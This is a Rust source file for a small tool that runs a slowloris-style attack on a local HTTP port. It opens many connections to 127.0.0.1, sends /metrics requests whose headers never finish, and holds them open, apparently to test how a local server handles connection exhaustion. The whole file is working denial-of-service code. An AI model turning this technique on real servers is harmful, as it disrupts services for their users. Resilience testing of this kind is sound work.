//! An unprivileged local user's attack on an HTTP port: `slowclients PORT COUNT SECONDS` opens
//! COUNT connections to 127.0.0.1:PORT, sends each the start of a request whose headers never
//! end, holds them all for SECONDS, then exits (closing them). Prints how many connected.

use std::{
    io::Write as _,
    net::TcpStream,
    time::{Duration, Instant},
};

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let [_, port, count, seconds] = args.as_slice() else {
        eprintln!("usage: slowclients PORT COUNT SECONDS");
        std::process::exit(2);
    };
    let port: u16 = port.parse().expect("PORT is a number");
    let count: usize = count.parse().expect("COUNT is a number");
    let hold = Duration::from_secs(seconds.parse().expect("SECONDS is a number"));
    let started = Instant::now();
    let mut held = Vec::with_capacity(count);
    for _ in 0..count {
        let Ok(mut stream) =
            TcpStream::connect_timeout(&([127, 0, 0, 1], port).into(), Duration::from_millis(500))
        else {
            continue;
        };
        // Headers begun, never finished: the server waits for the blank line.
        let _ = stream.write_all(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ");
        held.push(stream);
    }
    println!("connected {}", held.len());
    std::thread::sleep(hold.saturating_sub(started.elapsed()));
}
